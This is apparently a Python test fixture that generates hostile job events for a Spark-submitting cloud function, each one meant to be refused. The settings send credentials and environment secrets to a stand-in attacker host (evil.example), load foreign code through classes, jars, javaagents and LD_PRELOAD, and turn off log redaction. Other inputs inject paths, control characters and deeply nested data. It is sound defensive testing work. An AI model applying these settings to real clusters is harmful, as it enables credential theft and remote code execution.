"""Events of somebody who may invoke the function and wants more than that: the role's credentials, other code, a hang.

`EVIL` stands in every value that names a place of the attacker's, `SECRETS` in the function's environment.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["ENVIRONMENT", "EVIL", "SCRIPT", "SECRETS", "hostile_conf", "hostile_events"]

SCRIPT = "s3://scripts/job.py"
EVIL = "evil.example"
_URL = f"http://{EVIL}:8080"
SECRETS = ("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "IQoJb3JpZ2luX2VjEA1b2A1b2A1b2", "hunter-of-the-22nd")
ENVIRONMENT = {
    "SW_CHECKPOINT_BUCKET": "checkpoints",
    "SCRIPT_BUCKET": "scripts",
    "AWS_SECRET_ACCESS_KEY": SECRETS[0],
    "AWS_SESSION_TOKEN": SECRETS[1],
    "PGPASSWORD": SECRETS[2],
}
_STEAL = "${env.AWS_SECRET_ACCESS_KEY} ${env.AWS_SESSION_TOKEN} ${env.PGPASSWORD}"
_LAKE = "spark.sql.catalog.lake"
_S3A = "spark.hadoop.fs.s3a"

# Ways of S3A to another place, to other credentials, or to code.
_S3A_KEYS = {
    "endpoint": _URL,
    "endpoint.fips": "true",
    "path.style.access": "true",
    "access.key": "AKIA",
    "secret.key": "mine",
    "session.token": "mine",
    "aws.credentials.provider": "com.example.Mine",
    "aws.credentials.provider.mapping": f"a={EVIL}",
    "assumed.role.arn": "arn:aws:iam::666666666666:role/evil",
    "assumed.role.sts.endpoint": _URL,
    "assumed.role.credentials.provider": "com.example.Mine",
    "custom.signers": "S3Signer:com.example.Signer",
    "signing-algorithm": "com.example.Signer",
    "s3.signing-algorithm": "com.example.Signer",
    "http.signer.enabled": "true",
    "http.signer.class": "com.example.Signer",
    "s3.client.factory.impl": "com.example.Factory",
    "client.factory": "com.example.Factory",
    "proxy.host": EVIL,
    "proxy.port": "8080",
    "proxy.username": "me",
    "proxy.password": "mine",
    "connection.ssl.enabled": "false",
    "ssl.channel.mode": "default_jsse",
    "user.agent.prefix": _STEAL,
    "encryption.key": _STEAL,
    "encryption.algorithm": "SSE-C",
    "server-side-encryption.key": _STEAL,
    "encryption.context": _STEAL,
    "committer.staging.tmp.path": f"hdfs://{EVIL}/x",
    "committer.name": "magic",
    "buffer.dir": "/tmp/elsewhere",
    "audit.service.classname": "com.example.Audit",
    "audit.referrer.filter": _STEAL,
    "audit.execution.interceptors": "com.example.Interceptor",
    "delegation.token.binding": "com.example.Binding",
    "accesspoint.required": "true",
    "metadatastore.impl": "com.example.Store",
    "impl": "com.example.FileSystem",
    "create.conditional.enabled": "false",
}
_CATALOG_KEYS = {
    "uri": _URL,
    "credential": _STEAL,
    "token": _STEAL,
    "oauth2-server-uri": _URL,
    "rest.sigv4-enabled": "true",
    "rest.signing-region": EVIL,
    "header.X-Secret": _STEAL,
    "s3.endpoint": _URL,
    "s3.access-key-id": "AKIA",
    "s3.secret-access-key": "mine",
    "s3.remote-signing-enabled": "true",
    "s3.signer.uri": _URL,
    "s3.client-factory-impl": "com.example.Factory",
    "s3.write.tags.secret": _STEAL,
    "client.factory": "com.example.Factory",
    "client.credentials-provider": "com.example.Mine",
    "client.credentials-provider.url": _URL,
    "client.assume-role.arn": "arn:aws:iam::666666666666:role/evil",
    "client.region": EVIL,
    "http-client.proxy-endpoint": _URL,
    "http-client.type": "com.example.Client",
    "glue.endpoint": _URL,
    "dynamodb.endpoint": _URL,
    "lock-impl": "com.example.Lock",
    "metrics-reporter-impl": "com.example.Reporter",
    "type": "hive",
    "catalog-impl": "com.example.Catalog",
    "io-impl": "com.example.FileIO",
    "warehouse": f"hdfs://{EVIL}:8020/w",
    "jdbc.password": _STEAL,
    "jdbc.user": "me",
    "jdbc.init-script": "DROP TABLE t",
    "hadoop.fs.s3a.endpoint": _URL,
    "hadoop.fs.s3a.user.agent.prefix": _STEAL,
    "hadoop.fs.s3a.aws.credentials.provider": "com.example.Mine",
    "hadoop.fs.s3a.access.key": "AKIA",
    "hadoop.fs.defaultFS": f"hdfs://{EVIL}:8020",
    "hadoop.fs.s3a.impl": "com.example.FileSystem",
    "table-override.write.data.path": f"s3a://{EVIL}/x",
    "table-default.write.location-provider.impl": "com.example.Provider",
    "encryption.kms-impl": "com.example.Kms",
    "default-namespace": _STEAL,
    "url": f"jdbc:postgresql://{EVIL}/?socketFactory=com.example.Mine",
}
_OTHER_KEYS = {
    _LAKE: "org.apache.spark.sql.execution.datasources.v2.jdbc.JDBCTableCatalog",
    "spark.sql.catalog.spark_catalog": "com.example.Catalog",
    "spark.sql.catalog.spark_catalog.warehouse": f"s3a://{EVIL}/w",
    "spark.sql.catalog.safewriter": "com.example.Catalog",
    "spark.sql.catalog.safewriter.uri": _URL,
    "spark.master": f"spark://{EVIL}:7077",
    "spark.remote": f"sc://{EVIL}",
    "spark.api.mode": "connect",
    "spark.submit.deployMode": "cluster",
    "spark.submit.pyFiles": f"s3a://{EVIL}/a.py",
    "spark.jars": f"s3a://{EVIL}/a.jar",
    "spark.jars.packages": "com.example:evil:1",
    "spark.jars.repositories": _URL,
    "spark.jars.ivySettings": "/tmp/ivy.xml",
    "spark.files": f"s3a://{EVIL}/a",
    "spark.archives": f"s3a://{EVIL}/a.zip",
    "spark.driver.extraJavaOptions": "-javaagent:/tmp/evil.jar",
    "spark.driver.defaultJavaOptions": "-XX:OnOutOfMemoryError=sh",
    "spark.driver.extraClassPath": "/tmp/evil.jar",
    "spark.driver.extraLibraryPath": "/tmp",
    "spark.driver.host": EVIL,
    "spark.driver.bindAddress": EVIL,
    "spark.plugins": "com.example.Plugin",
    "spark.extraListeners": "com.example.Listener",
    "spark.sql.queryExecutionListeners": "com.example.Listener",
    "spark.sql.streaming.streamingQueryListeners": "com.example.Listener",
    "spark.sql.extensions": "com.example.Extension",
    "spark.sql.cache.serializer": "com.example.Serializer",
    "spark.sql.sources.commitProtocolClass": "com.example.Protocol",
    "spark.sql.parquet.output.committer.class": "com.example.Committer",
    "spark.sql.streaming.checkpointFileManagerClass": "com.example.Manager",
    "spark.sql.streaming.stateStore.providerClass": "com.example.Provider",
    "spark.sql.hive.metastore.jars": "maven",
    "spark.sql.hive.metastore.jars.path": f"s3a://{EVIL}/a.jar",
    "spark.sql.maven.additionalRemoteRepositories": _URL,
    "spark.sql.catalogImplementation": "hive",
    "spark.sql.udt.allowedDynamicUDTClasses": "com.example.Udt",
    "spark.sql.redaction.string.regex": "nothing",
    "spark.sql.redaction.options.regex": "nothing",
    "spark.redaction.regex": "nothing",
    "spark.redaction.string.regex": "nothing",
    "spark.sql.warehouse.dir": f"hdfs://{EVIL}:8020/w",
    "spark.sql.streaming.checkpointLocation": f"ftp://{EVIL}/c",
    "spark.sql.defaultCatalog": _STEAL,
    "spark.sql.session.timeZone": _STEAL,
    "spark.serializer": "com.example.Serializer",
    "spark.closure.serializer": "com.example.Serializer",
    "spark.kryo.registrator": "com.example.Registrator",
    "spark.kryo.classesToRegister": "com.example.Mine",
    "spark.shuffle.manager": "com.example.Manager",
    "spark.shuffle.sort.io.plugin.class": "com.example.Plugin",
    "spark.io.compression.codec": "com.example.Codec",
    "spark.eventLog.enabled": "true",
    "spark.eventLog.dir": f"s3a://{EVIL}/log",
    "spark.metrics.conf.driver.sink.graphite.host": EVIL,
    "spark.metrics.conf": "/tmp/metrics.properties",
    "spark.metrics.namespace": _STEAL,
    "spark.ui.enabled": "true",
    "spark.ui.proxyBase": _URL,
    "spark.ui.filters": "com.example.Filter",
    "spark.acls.enable": "true",
    "spark.authenticate.secret": "mine",
    "spark.security.credentials.hive.enabled": "true",
    "spark.hadoop.hadoop.security.credential.provider.path": f"jceks://s3a@{EVIL}/k",
    "spark.hadoop.hadoop.security.group.mapping": "com.example.Mapping",
    "spark.hadoop.hadoop.tmp.dir": "/tmp/elsewhere",
    "spark.hadoop.fs.defaultFS": f"hdfs://{EVIL}:8020",
    "spark.hadoop.fs.s3.impl": "com.example.FileSystem",
    "spark.hadoop.fs.http.impl": "com.example.FileSystem",
    "spark.hadoop.fs.AbstractFileSystem.s3a.impl": "com.example.FileSystem",
    "spark.hadoop.hive.metastore.uris": f"thrift://{EVIL}:9083",
    "spark.hadoop.javax.jdo.option.ConnectionURL": f"jdbc:postgresql://{EVIL}/x",
    "spark.hadoop.mapreduce.output.fileoutputformat.compress.codec": "com.example.Codec",
    "spark.hadoop.parquet.crypto.factory.class": "com.example.Crypto",
    "spark.hadoop.parquet.encryption.kms.instance.url": _URL,
    "spark.delta.logStore.class": "com.example.Store",
    "spark.delta.logStore.s3a.impl": "com.example.Store",
    "spark.databricks.delta.commit.idempotencyCheck.enabled": "false",
    "spark.databricks.delta.coordinatedCommits.commitCoordinator.dynamodb.awsCredentialsProviderName": "com.example.X",
    "spark.databricks.delta.properties.defaults.coordinatedCommits.commitCoordinator-preview": "mine",
    "spark.databricks.delta.retentionDurationCheck.enabled": "false",
    "spark.databricks.delta.commitInfo.userMetadata": _STEAL,
    "spark.pyspark.python": "/tmp/python",
    "spark.pyspark.driver.python": "/tmp/python",
    "spark.python.daemon.module": "evil",
    "spark.executorEnv.LD_PRELOAD": "/tmp/evil.so",
    "spark.yarn.appMasterEnv.PYTHONPATH": "/tmp",
    "spark.kubernetes.driverEnv.PATH": "/tmp",
    "spark.driver.resource.gpu.discoveryScript": "/tmp/evil.sh",
    "spark.executor.processTreeMetrics.enabled": "true",
    "spark.app.name": _STEAL,
    "spark.app.id": EVIL,
    "spark.local.dir": "/tmp/elsewhere",
    "spark.sql.shuffle.partitions": "two",
    "spark.default.parallelism": "-1",
    "spark.driver.memory": "999g",
    "spark.driver.cores": "0",
    "hive.metastore.uris": f"thrift://{EVIL}:9083",
    "fs.s3a.endpoint": _URL,
    "spark.sql.adaptive.enabled\nspark.master": f"spark://{EVIL}:7077",
    "spark.sql.adaptive.enabled spark.master": f"spark://{EVIL}:7077",
    "spark.\u017fql.adaptive.enabled": "true",
    "": "x",
}


def hostile_conf() -> dict[str, str]:
    """Settings by key; each alone must be refused."""
    return {
        **{f"{_S3A}.{name}": value for name, value in _S3A_KEYS.items()},
        **{f"{_S3A}.bucket.scripts.{name}": value for name, value in _S3A_KEYS.items()},
        f"{_S3A}.bucket.x.accesspoint.arn": "arn:aws:s3:eu-west-1:666666666666:accesspoint/evil",
        **{f"{_LAKE}.{name}": value for name, value in _CATALOG_KEYS.items()},
        **_OTHER_KEYS,
    }


def _job(**fields: Any) -> dict[str, Any]:
    return {"entryPoint": SCRIPT, **fields}


def _message(body: object, **fields: Any) -> dict[str, Any]:
    text = body if isinstance(body, str) else json.dumps(body)
    return {"Records": [{"eventSource": "aws:sqs", "messageId": "m-1", "body": text, **fields}]}


def _upload(**fields: Any) -> dict[str, Any]:
    item = {"key": "in/a.csv", **fields}
    return {"Records": [{"eventSource": "aws:s3", "s3": {"bucket": {"name": "lake"}, "object": item}}]}


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def _deep(depth: int) -> Any:
    value: Any = "bottom"
    for _ in range(depth):
        value = [value]
    return value


def hostile_events() -> Iterator[tuple[str, Any]]:
    """Events by what they try."""
    yield from _settings()
    yield from _places()
    yield from _texts()
    yield from _types()
    yield from _depths()


def _settings() -> Iterator[tuple[str, Any]]:
    for number, (key, value) in enumerate(hostile_conf().items()):
        yield f"conf {key!r}", _job(conf={"spark.sql.ansi.enabled": "true", key: value})
        if number % 4 == 0:
            yield f"message with {key!r}", _message(_job(conf={key: value}))
        if number % 4 == 1 and "\n" not in key:
            parameters = f"--conf '{key}={value}'"
            yield f"parameters {key!r}", _job(sparkSubmitParameters=parameters)
            nested = {"sparkSubmit": {"entryPoint": SCRIPT, "sparkSubmitParameters": parameters}}
            yield f"the cloud's form {key!r}", {"jobDriver": nested}
    for option in ("--master local", "--jars s3://x/y.jar", "--class A", "--properties-file /tmp/p", "--packages a:b"):
        yield f"option {option}", _job(sparkSubmitParameters=option)


def _places() -> Iterator[tuple[str, Any]]:
    for place in (
        f"s3://{EVIL}/job.py",
        f"s3a://{EVIL}/job.py",
        "s3://lake/job.py",
        "s3://scripts-2/job.py",
        "s3://scripts@evil.example/job.py",
        "s3://arn:aws:s3:eu-west-1:666666666666:accesspoint/evil/job.py",
        f"https://{EVIL}/job.py",
        "file:///tmp/job.py",
        "/var/task/handler/app.py",
        "s3://scripts/../lake/job.py\0",
        f"s3://scripts/{'é' * 140}.py",
        f"s3://scripts/{'x' * 256}.py",
        "s3://scripts/job.py,s3://lake/evil.py",
        "s3://scripts/\ud800.py",
    ):
        yield f"script {place!r}", _job(entryPoint=place)
        yield f"script alone {place!r}", place
        yield f"script in a message {place!r}", _message({"script": place})
        yield f"Python file {place!r}", _job(pyFiles=[place.replace("job.py", "lib.py")])
        yield f"Python file by parameter {place!r}", _job(sparkSubmitParameters=f"--py-files {place!r}")


def _texts() -> Iterator[tuple[str, Any]]:
    for name, text in {
        "a variable": _STEAL,
        "NUL": "a\0b",
        "escape": "a\x1b[2Jb",
        "half a pair": "a\ud800b",
        "delete": "a\x7fb",
        "a C1 control": "a\x85b",
    }.items():
        yield f"argument with {name}", _job(entryPointArguments=["--day", text])
        yield f"name with {name}", _job(name=text)
        yield f"--name with {name}", _job(sparkSubmitParameters=f"--name '{text}'")
        yield f"token with {name}", _job(clientToken=text)
        yield f"tag with {name}", _job(tags={text: text})
        yield f"field with {name}", _job(**{text: 1})
        yield f"continuation with {name}", {"continuation": {"count": 1, "token": text, "event": SCRIPT}}
        yield f"message id with {name}", _message("x", messageId=text)
    for number in (16_385, 32_768, 65_536):
        yield f"{number} characters of four bytes", _job(entryPointArguments=["\U0001f600" * number])
    for size in (1_025, 200_000):
        yield f"a message id of {size} characters", _message(_job(), messageId="m" * size)
        yield f"a key of {size} characters", _upload(key="k" * size)
        yield f"a version of {size} characters", _upload(versionId="v" * size)
        yield f"an event id of {size} characters", {"detail-type": "x", "source": "y", "id": "i" * size}
        yield (
            f"a continued key of {size} characters",
            {"continuation": {"count": 1, "token": "t" * 4 * size, "event": SCRIPT}},
        )
    yield "many long arguments", _job(entryPointArguments=["x" * 60_000] * 30)


def _types() -> Iterator[tuple[str, Any]]:
    for source in ([], {}, ["aws:sqs"], {"aws:sqs": 1}, None, 7, True, "aws:evil"):
        yield f"source {source!r}", {"Records": [{"eventSource": source, "messageId": "m", "body": "x"}]}
    anything: tuple[Any, ...] = (None, True, 7, 1.5, float("nan"), [], [SCRIPT], "", "x", {"a": {}})
    for records in (*anything, [[]], [None], [{}], [{"eventSource": "aws:s3"}]):
        yield f"records {records!r}", {"Records": records}
    for value in anything:
        yield f"event {value!r}", value
        yield f"conf {value!r} as a whole", _job(conf=value)
        yield f"arguments {value!r}", _job(entryPointArguments=value)
        yield f"driver {value!r}", {"jobDriver": value}
    for count in (0, -1, 10**9, "1", True, None, 1.5):
        yield f"continuation {count!r}", {"continuation": {"count": count, "token": "t", "event": SCRIPT}}


def _depths() -> Iterator[tuple[str, Any]]:
    for depth in (500, 5_000, 100_000):
        yield f"a body nested {depth} deep", _message(_nested(depth))
        yield f"a body of objects nested {depth} deep", _message('{"a":' * depth + "1" + "}" * depth)
        yield f"a job nested {depth} deep", _message('{"script":"s3://scripts/job.py","conf":' + _nested(depth) + "}")
    for depth in (500, 50_000):
        yield f"an event nested {depth} deep", {"detail-type": "x", "source": "y", "id": "i", "detail": _deep(depth)}
        yield f"a field nested {depth} deep", _job(conf=_deep(depth))
        yield f"a continuation nested {depth} deep", {"continuation": _deep(depth)}
    again: Any = SCRIPT
    for _ in range(50):
        again = {"continuation": {"count": 1, "token": "t", "event": again}}
    yield "continuations in each other", again
